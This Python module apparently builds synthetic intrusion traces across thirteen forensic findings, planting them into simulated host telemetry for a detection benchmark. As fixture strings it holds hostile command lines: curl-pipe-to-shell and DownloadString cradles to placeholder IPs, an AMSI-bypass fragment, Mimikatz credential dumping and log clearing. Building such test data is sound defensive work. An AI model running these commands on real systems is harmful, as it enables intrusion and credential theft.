"""What intruders leave: the thirteen findings of forensic state analysis, a to m, from plain to hardly seen.

    a  a program unknown to the world and rare here      h  a library that few hosts have loaded
    b  a vendor's name on what he did not sign           i  settings that were weakened
    c  a foreign library in a program that starts itself j  a logon from a rare domain
    d  a parent with a child that it never has           k  PowerShell of an attacker
    e  strings of a tool in memory                       l  a thread with somebody else's rights
    f  a rare named pipe                                 m  a log that was cleared
    g  programs of one folder, run and deleted

An easy intrusion is loud and leaves all that belongs to it; of a hard one most rows are missing, what is loud in
it is loud one time in twelve, and 40 % of its files are signed. Nothing here knows what the scorer makes of a row.
"""
import json
import random

import hosts
import software
from catalogue import ROLES, role_of
from hosts import act_as, claim_vendor, clear_log, gap, logon, run_from_folder, run_script, set_setting, start_child
from queries import script_blocks
from software import DAY, TIME, Software, digest, make_program, word

FINDINGS = "abcdefghijklm"
LINUX_FINDINGS = "adefghijl"
LOUD = {"easy": 1.0, "medium": 0.5, "hard": 0.08}
SHOWN = {"easy": 1.0, "medium": 0.65, "hard": 0.35}
SIGNED = {"easy": 0.0, "medium": 0.25, "hard": 0.4}
SYSTEM32 = "C:\\Windows\\System32\\"


class Actor:
    """What one group uses on all of its hosts."""

    def __init__(self, seed, campaign):
        rng = random.Random(f"{seed}/campaign/{campaign}")
        self.maker, self.product, self.pipe = word(rng).title(), word(rng, 2).title(), word(rng, 2)
        self.program, self.library, self.script = word(rng, 2), word(rng, 2), word(rng)
        self.domain, self.station = word(rng, 2).upper(), word(rng, 2).upper()
        self.account, self.started = word(rng, 2), TIME - rng.randrange(2 * DAY, software.WINDOW)


class Plant:
    """One finding on one host: how loud, how complete, by whom."""

    def __init__(self, host, actor, level, rng):
        self.host, self.actor, self.level, self.rng = host, actor, level, rng
        self.when = actor.started + rng.randrange(2 * DAY)
        self.is_loud = rng.random() < LOUD[level]
        self.is_signed = rng.random() < SIGNED[level]

    def shows(self):
        return self.rng.random() < SHOWN[self.level]

    def choose(self, loud, quiet):
        return self.rng.choice(loud if self.is_loud else quiet)

    def inject(self, path, loud=("anonymous",), quiet=("anonymous",), size=None):
        """Code in the memory of a process; the careful take away the right to write, and live where compilers do."""
        hides = not self.is_loud and self.rng.random() < 0.6
        self.host.put(*software.region(path, self.choose(loud, quiet), int(hides), "dotnet" if hides else "", size or
                                       self.rng.randrange(10, 90) * 4096, is_writable=int(self.is_loud or self.rng.random() < 0.3)))


# ---- an implant's file ---------------------------------------------------------------------------------------

def implant(plant, stem=None, folder=None):
    """Facts of the intruder's program."""
    rng, actor, host = plant.rng, plant.actor, plant.host
    facts = make_program(rng, host.platform, "user", 0.0, 0.0, plant.when)
    quiet = ([f"C:\\Program Files\\{actor.maker}\\{actor.product}", f"C:\\Users\\{host.user}\\AppData\\Local\\{actor.maker}",
              f"C:\\ProgramData\\{actor.maker}\\{actor.product}"] if host.windows else [f"/opt/{actor.maker.lower()}/bin", "/usr/local/sbin"])
    loud = (["C:\\Users\\Public\\Libraries", "C:\\Windows\\Temp", "C:\\PerfLogs", "C:\\ProgramData"] if host.windows else
            ["/dev/shm", "/tmp/.X11-unix", "/var/tmp"])
    separator, ending = ("\\", ".exe") if host.windows else ("/", "")
    name = (stem or (plant.choose(["update", "svc", "host32", actor.program], [actor.program]) if host.windows else actor.program)) + ending
    folder = folder or plant.choose(loud, quiet)
    kind = "unusual" if folder in loud else "programs" if folder.startswith(("C:\\Program Files", "/opt")) else "user"
    facts.update(folder=folder, name=name, path=folder + separator + name, dir_class=kind, original=name, company=actor.maker if
                 plant.is_signed else "", signer=f"{actor.maker} Ltd" if plant.is_signed else "", signed_status=("good" if
                 plant.is_signed else "none") if host.windows else "", libraries=[], is_packaged="0" if not host.windows else "",
                 parent=rng.choice(["svchost.exe", "explorer.exe", "services.exe"]) if host.windows else "systemd")
    return facts


def keep(plant, facts, query, chance=None):
    """The rows of a program for one query, when they are shown."""
    if chance is None and not plant.shows():
        return
    program = Software(facts, 1.0)
    blanks = plant.host.renew(plant.when)
    for name, _, template in program.installed + program.running:
        if name == query:
            plant.host.rows[name].append(template % blanks)


def run_implant(plant, facts, how_long=("fsa_executions", "fsa_shimcache")):
    """The implant's traces and, where it is shown, its process."""
    for query in how_long:
        keep(plant, facts, query)
    if plant.shows():
        for query in ("fsa_parent_child", "fsa_modules", "fsa_processes_windows", "fsa_processes"):
            keep(plant, facts, query, 1)
        if plant.shows():
            facts["remote"] = plant.rng.choice([443, 8443, 443, 53])
            keep(plant, facts, "fsa_connections", 1)


def stays(plant, facts):
    """It is started again."""
    facts["start"] = plant.rng.choice(["run", "task", "service"]) if plant.host.windows else plant.rng.choice(["systemd", "cron"])
    facts["service"] = plant.actor.product + "Svc" if facts["start"] == "service" else ""
    for query in ("fsa_autostarts", "fsa_run_keys", "fsa_services"):
        keep(plant, facts, query, 1)


# ---- the thirteen findings: each gives (form, query, column, value) of its own row ------------------------------

def plant_a(plant):
    facts = implant(plant)
    keep(plant, facts, "fsa_executables", 1)
    run_implant(plant, facts)
    if plant.shows():
        stays(plant, facts)
    return "signed program" if plant.is_signed else "unsigned program", "fsa_executables", "path", facts["path"]


def plant_b(plant):
    vendor = plant.rng.choice(["Microsoft", "Intel", "Adobe"])
    facts = implant(plant, plant.choose(["OneDriveUpdater", "WinDefUpdate", "IntelGraphicsHost"], [plant.actor.program]))
    facts.update(company=vendor + " Corporation", original=plant.rng.choice([facts["name"], "svchost.exe", "setup.exe"]))
    claim_vendor(plant.host, facts, vendor, plant.when, plant.choose(["path", "name"], ["version"]))
    keep(plant, facts, "fsa_executables")
    run_implant(plant, facts)
    if plant.shows():
        stays(plant, facts)
    return f"claims {vendor}", "fsa_vendor_masquerade", "path", facts["path"]


def plant_c(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    facts = implant(plant, word(rng, 2))  # a good program of somebody else's, brought along
    facts.update(signer="Korvel Systems Inc.", signed_status="good", is_known="1", company="Korvel Systems")
    stays(plant, facts)
    library = plant.choose(["version", "wtsapi32", "dbghelp", "cryptsp"], [actor.library, "version"]) + ".dll"
    path, sha256 = f"{facts['folder']}\\{library}", digest(rng)
    is_system = int(library.split(".")[0] != actor.library)
    host.put("fsa_autostart_side_loading", 1, software.side_loaded(
        facts, path, sha256, rng.choice([f"{actor.maker} Ltd", facts["signer"]]) if plant.is_signed else "", "good" if plant.is_signed else "none",
        is_system_name=is_system))
    if facts["service"]:
        host.put("fsa_service_modules", 1, software.service_module(facts["path"], path, facts["service"], is_system_name=is_system))
    if plant.shows():
        host.put(*software.modules(path, 1))
    if plant.shows():
        keep(plant, {**facts, "path": path, "name": library, "sha256": sha256, "signer": "", "signed_status": "none",
                     "is_known": "0", "original": library}, "fsa_executables", 1)
    run_implant(plant, facts, ("fsa_executions",))
    if plant.shows():
        plant.inject(facts["path"])
    return "system name" if is_system else "name of its own", "fsa_autostart_side_loading", "path", path


def plant_d(plant):
    host, rng = plant.host, plant.rng
    if host.windows:
        parent, child, line = plant.choose(
            [("winword.exe", "powershell.exe", "powershell -nop -w hidden -enc SQBFAFgA"), ("excel.exe", "mshta.exe", "mshta http://198.51.100.7/a"),
             ("w3wp.exe", "cmd.exe", "cmd.exe /c whoami /all"), ("wmiprvse.exe", "rundll32.exe", "rundll32 C:\\ProgramData\\a.dll,Start")],
            [("svchost.exe", "rundll32.exe", "rundll32.exe"), ("explorer.exe", "regsvr32.exe", "regsvr32 /s i.ocx"),
             ("dllhost.exe", "cmd.exe", "cmd.exe"), ("services.exe", "cmd.exe", "cmd.exe /q")])
    else:
        parent, child, line = plant.choose(
            [("apache2", "bash", "bash -c id"), ("java", "sh", "sh -c curl 198.51.100.7/x | sh"), ("postgres", "python3", "python3 -c import pty")],
            [("cron", "python3", "python3"), ("sshd", "socat", "socat - -"), ("systemd", "perl", "perl /usr/local/sbin/a")])
    start_child(host, parent, child, line, TIME - rng.randrange(600, 80000))
    path = SYSTEM32 + child if host.windows else "/usr/bin/" + child
    if plant.shows():
        host.renew(plant.when)
        host.put(*software.connection(path, "", remote=rng.choice([443, 8080, 4444])))
    if plant.shows():
        plant.inject(path)
    return f"{parent} starts {child}", "fsa_parent_child", "cmdline", line[:120]


def plant_e(plant):
    host, rng = plant.host, plant.rng
    path = (SYSTEM32 + rng.choice(["rundll32.exe", "dllhost.exe", "werfault.exe", "svchost.exe"]) if host.windows else
            rng.choice(["/usr/sbin/cron", "/usr/bin/python3.11", "/usr/sbin/sshd"]))
    rule = plant.choose(list(hosts.TOOLS), list(hosts.VAGUE))
    hosts.hit_memory(host, path, rule, plant.choose(["rwxp", "r-xp"], ["rw-p", "r--p"]), rng.randrange(1, 9))
    if plant.shows():
        plant.inject(path, ("hollowed", "anonymous", "header_erased"), ("anonymous", "modified_code"))
    if plant.shows():
        host.put(*software.connection(path, "", remote=443))
    return rule, "fsa_memory_strings", "process_path", path


def plant_f(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    host.renew(plant.when)
    if not host.windows:
        return plant_socket(plant)
    path = plant.choose([f"C:\\ProgramData\\{actor.maker}\\{actor.program}.exe", SYSTEM32 + "rundll32.exe"],
                        [SYSTEM32 + "svchost.exe", SYSTEM32 + "dllhost.exe", f"C:\\Program Files\\{actor.maker}\\{actor.program}.exe"])
    known = "Cobalt Strike (default)" if plant.is_loud and rng.random() < 0.4 else ""
    name = f"msagent_{rng.randrange(16, 255):02x}" if known else f"{actor.pipe}_{rng.randrange(10, 99)}"
    host.put("fsa_named_pipes_windows", 1, software.pipe_row(
        name, path, known_as=known, is_pid_forged=int(plant.is_loud and rng.random() < 0.2), sddl="D:(A;;FA;;;WD)"))
    if plant.shows():
        start_child(host, "services.exe", path.rsplit("\\", 1)[1], path, plant.when, path, SYSTEM32 + "services.exe")
    if plant.shows():
        plant.inject(path)
    return known or "name of its own", "fsa_named_pipes_windows", "name", name


def plant_socket(plant):
    host, actor = plant.host, plant.actor
    path = plant.choose([f"/memfd:{actor.program} (deleted)", f"/dev/shm/.{actor.program}"], [f"/usr/local/sbin/{actor.program}"])
    name = plant.choose([f"@{actor.pipe}-ctl", f"/tmp/.{actor.pipe}"], [f"/run/{actor.pipe}.sock"])
    host.put("fsa_named_pipes", 1, software.socket_row(name, path))
    if plant.shows():
        start_child(host, "systemd", path.rsplit("/", 1)[1][:15], path, plant.when, path, "/usr/lib/systemd/systemd")
    if plant.shows() and path.startswith("/memfd"):
        hosts.show_image(host, path, actor.program, plant.when, is_memfd=1, is_deleted=1)
    if plant.shows():
        plant.inject(path, ("memfd" if path.startswith("/memfd") else "anonymous",))
    return "socket", "fsa_named_pipes", "path", name


RECONNAISSANCE = "net whoami nltest quser systeminfo tasklist ipconfig ping adfind csvde procdump".split()


def plant_g(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    ending = ".exe" if host.windows else ""
    own = [word(rng, 2) + ending for _ in range(5)]
    recon = [name + ending for name in rng.sample(RECONNAISSANCE, 4)]
    names = (own[:2] + recon) if plant.is_loud else own[:rng.randrange(2, 4)]
    folder = (plant.choose(["C:\\Users\\Public\\Music", "C:\\PerfLogs\\Admin", "C:\\Windows\\Temp\\" + actor.pipe],
                           [f"C:\\ProgramData\\{actor.maker}", f"C:\\Users\\{host.user}\\AppData\\Local\\Temp\\{actor.product}"])
              if host.windows else plant.choose(["/dev/shm/." + actor.pipe, "/tmp/.font"], ["/var/tmp/" + actor.pipe, "/opt/" + actor.pipe]))
    gone = len(names) if plant.level == "easy" else max(2, len(names) - 1)
    run_from_folder(host, folder, "unusual" if plant.is_loud else "user", names, plant.when, gone, 4 if plant.is_loud else 0,
                    7200 if plant.is_loud else 3 * DAY)
    return f"{gone} of {len(names)} gone", "fsa_deleted_programs", "folder", folder


def plant_h(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    if host.windows:
        path = plant.choose([f"{SYSTEM32}{actor.library}.dll", f"C:\\Windows\\Temp\\{actor.library}.dll"],
                            [f"C:\\Program Files\\{actor.maker}\\{actor.library}.dll", f"C:\\ProgramData\\{actor.maker}\\{actor.library}.dll"])
    else:
        path = plant.choose([f"/dev/shm/lib{actor.library}.so", "/etc/ld.so.d/lib.so"], [f"/usr/lib/x86_64-linux-gnu/lib{actor.library}.so.1"])
    host.renew(plant.when)
    host.put(*software.modules(path, rng.randrange(1, 20) if plant.is_loud else 1, is_listed=int(not (plant.is_loud and rng.random() < 0.5))
                               if host.windows else ""))
    if plant.shows():
        facts = implant(plant)
        name = path.replace("\\", "/").rsplit("/", 1)[1]
        keep(plant, {**facts, "path": path, "name": name, "original": name, "dir_class": "unusual" if plant.is_loud else "programs"},
             "fsa_executables", 1)
    if plant.shows() and not host.windows:
        facts = {**implant(plant), "path": path, "name": "ld.so.preload"}
        host.put("fsa_autostarts", 1, software.autostart(facts, "profile", category="preload", location="/etc/ld.so.preload"))
    return "loaded library", "fsa_modules", "path", path


def plant_i(plant):
    host = plant.host
    critical = (["defender_realtime", "wdigest", "uac", "defender_tamper"] if host.windows else ["ssh_root_login", "auditd", "firewall"])
    quiet = (["lm_level", "command_line_logging", "remote_tokens", "smb_signing"] if host.windows else ["ptrace_scope", "log_forwarding"])
    settings = plant.rng.sample(critical, 3) if plant.is_loud else [plant.rng.choice(quiet)]
    for setting in settings:
        for query in ("fsa_security_settings", "fsa_weakened_settings"):  # it was sound before
            place = f'"setting":"{setting}"'
            if query in host.rows:
                host.rows[query] = [x for x in host.rows[query] if place not in x]
        set_setting(host, setting, True, "local", plant.when)
    return ", ".join(settings), "fsa_security_settings", "setting", settings[0]


def plant_j(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    domain = plant.choose([actor.domain, "WORKGROUP"], [actor.domain, "CORP"])
    source = plant.choose(["kali", "WIN-" + "".join(rng.choices("ABCDEFGHJKLMNPQRSTUV0123456789", k=11))],
                          [actor.station, f"WS-{rng.randrange(99999):05d}"])
    user = plant.choose(["administrator", actor.account], [actor.account])
    public = plant.is_loud and rng.random() < 0.3
    kind = "Network" if host.windows else "ssh"
    logon(host, domain, user, kind, source, hosts.address(rng, "public" if public else "private"), "public" if public else "private",
          "NTLM", rng.randrange(1, 9), rng.choice([0, 30]) if plant.is_loud else 0, plant.when)
    return f"{domain} from {source}", "fsa_logons", "source_host", source


SCRIPTS = {
    "loud": [("$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils'); IEX ([Text.Encoding]::UTF8.GetString([Convert]::"
              "FromBase64String('{0}')))", ("amsi", "invoke", "encoded")),
             ("$p=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($v,{0}); VirtualAlloc; [Reflection.Assembly]::Load($b)",
              ("native", "reflection")),
             ("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"' # {0}", ("credential",)),
             ("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/{0}'); Find-LocalAdminAccess",
              ("download", "invoke", "reconnaissance"))],
    "quiet": [("$k = 1..{1} | % {{ [char]($_ -bxor 35) }}; $k -join ''", ("encoded",)),
              ("Get-ADComputer -Filter * | Select Name | Out-File C:\\ProgramData\\{0}.txt", ()),
              ("Invoke-WebRequest https://cdn-{0}.example/{1} -OutFile C:\\ProgramData\\{0}.dat", ("download",)),
              ("Register-ScheduledTask -TaskName {0} -Action $a -Trigger $t", ()),
              ("Compress-Archive \\\\FS-00012\\share\\{0} C:\\ProgramData\\{0}.zip", ())]}


def plant_k(plant):
    rng, actor = plant.rng, plant.actor
    text, traits = plant.choose(SCRIPTS["loud"], SCRIPTS["quiet"])
    path = f"C:\\ProgramData\\{actor.maker}\\{actor.script}.ps1" if plant.shows() and rng.random() < 0.6 else ""
    sha256 = run_script(plant.host, text.format(word(rng), rng.randrange(9999)), traits, path, plant.when,
                        length=rng.randrange(300, 60000))
    if plant.shows():
        start_child(plant.host, "wmiprvse.exe" if plant.is_loud else "explorer.exe", "powershell.exe", f"powershell -File {path or 'a.ps1'}",
                    plant.when, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", SYSTEM32 + "wbem\\wmiprvse.exe" if plant.is_loud
                    else "C:\\Windows\\explorer.exe")
    return "+".join(traits) or "no trait", "fsa_suspicious_script_blocks" if traits else script_blocks(sha256), "sha256", sha256


def plant_l(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    if not host.windows:
        path = plant.choose([f"/tmp/.{actor.program}"], [f"/usr/bin/{actor.program}"])
        host.add("fsa_tokens", process_path=path, has_other_uids=1, has_other_gids=int(plant.is_loud), has_other_groups=0,
                 has_other_capabilities=int(plant.is_loud), has_other_seccomp=0, has_excess_capabilities=int(plant.is_loud),
                 pid=host.renew()["pid"], thread=actor.program, euid=0 if plant.is_loud else 33, cap_effective="0x3fffffffff", threads=1)
        return "other uids", "fsa_tokens", "process_path", path
    path = plant.choose([f"C:\\Users\\Public\\{actor.program}.exe", SYSTEM32 + "rundll32.exe", SYSTEM32 + "notepad.exe"],
                        [SYSTEM32 + "cmd.exe", SYSTEM32 + "mmc.exe", f"C:\\Program Files\\{actor.maker}\\{actor.program}.exe"])
    if plant.is_loud:
        act_as(host, path, "S-1-5-18", plant.when, is_privileged_user=1, has_higher_integrity=1, has_gained_administrators=1,
               has_gained_privileges=1, gained_privileges="SeDebugPrivilege", start_module="", logon_type="Service")
    else:
        act_as(host, path, "S-1-5-21-1085031214-1563985344-500" if rng.random() < 0.5 else host.blanks["sid"], plant.when,
               logon_type="New Credentials", is_process=int(rng.random() < 0.5))
    if plant.shows():
        start_child(host, "cmd.exe", path.rsplit("\\", 1)[1], path, plant.when, path, SYSTEM32 + "cmd.exe")
    if plant.shows() and plant.is_loud:
        host.add("fsa_lsass_handles", process_path=path, access_text="PROCESS_VM_READ PROCESS_VM_WRITE", granted_access="0x1fffff",
                 pid=host.renew()["pid"], handles=1)
    return "SYSTEM" if plant.is_loud else "borrowed logon", "fsa_tokens_windows", "process_path", path


def plant_m(plant):
    host, rng, actor = plant.host, plant.rng, plant.actor
    if plant.level == "hard" and not plant.is_loud:
        gap(host, "Security", rng.randrange(12, 90), plant.when)
        return "records cut out", "fsa_log_gaps", "channel", "Security"
    user = actor.account if plant.shows() else host.user
    for channel in ["Security", "System", "Microsoft-Windows-PowerShell/Operational"][:3 if plant.is_loud else 1]:
        clear_log(host, channel, user, plant.when)
    if plant.shows():
        gap(host, "Microsoft-Windows-TaskScheduler/Operational", rng.randrange(100, 900), plant.when, int(plant.is_loud))
    return "cleared by " + user, "fsa_log_cleared", "user_name", user


# ---- who is hit ----------------------------------------------------------------------------------------------

def candidates(count, rng):
    numbers = list(range(count))
    rng.shuffle(numbers)
    return numbers


STAGES = (("workstation", "adefk"), ("workstation", "bcjl"), ("files", "ghim"))  # the way in, the next step, the data


def plan_thirteen(seed, count, level):
    """One intrusion over three hosts that leaves each finding once."""
    free, plan = candidates(count, random.Random(f"{seed}/plan")), {}
    for role, findings in STAGES:
        number = next(n for n in free if n not in plan and role_of(n, count) == role)
        plan[number] = [(finding, level, 0) for finding in findings]
    return plan


def plan_alone(seed, count, level):
    """Each finding once, each the only one of its host: nothing else there says that it is no accident."""
    rng = random.Random(f"{seed}/plan")
    free = [n for n in candidates(count, rng) if role_of(n, count) in ("workstation", "files", "web", "database")]
    return {free[place]: [(finding, level, place)] for place, finding in enumerate(FINDINGS)}


def plan_campaigns(seed, count, level):
    """Three groups on a dozen hosts of four thousand; each host shows some of the thirteen."""
    rng = random.Random(f"{seed}/plan")
    free, plan = candidates(count, rng), {}
    for campaign in range(3):
        for _ in range(max(4, count // 1500) if count >= 1000 else 2):
            number = free.pop()
            kinds = FINDINGS if ROLES[role_of(number, count)][1] == "windows" else LINUX_FINDINGS
            many = {"easy": (4, 5), "medium": (3, 4), "hard": (2, 4)}[level]
            plan[number] = [(finding, level, campaign) for finding in sorted(rng.sample(kinds, rng.randint(*many)))]
    return plan


def plan_none(seed, count, level):
    return {}


PLANS = {"thirteen": plan_thirteen, "alone": plan_alone, "campaigns": plan_campaigns, "none": plan_none}


def plant(host, seed, findings):
    """Plants them; gives what was planted, row by row."""
    planted = []
    for finding, level, campaign in findings:
        before = {query: set(rows) for query, rows in host.rows.items()}
        rng = random.Random(f"{seed}/intrusion/{host.number}/{finding}")
        work = Plant(host, Actor(seed, campaign), level, rng)
        form, query, column, value = globals()["plant_" + finding](work)
        if query not in host.rows:
            raise KeyError(f"finding {finding} has no row for {host.platform}")
        added = [{"query": name, "row": json.loads(text)} for name, rows in host.rows.items() for text in rows
                 if text not in before[name]]
        planted.append({"finding": finding, "host": host.uuid, "hostname": host.name, "campaign": campaign, "difficulty": level,
                        "form": form, "is_loud": work.is_loud, "query": query, "column": column, "entity": value, "rows": added})
    return planted
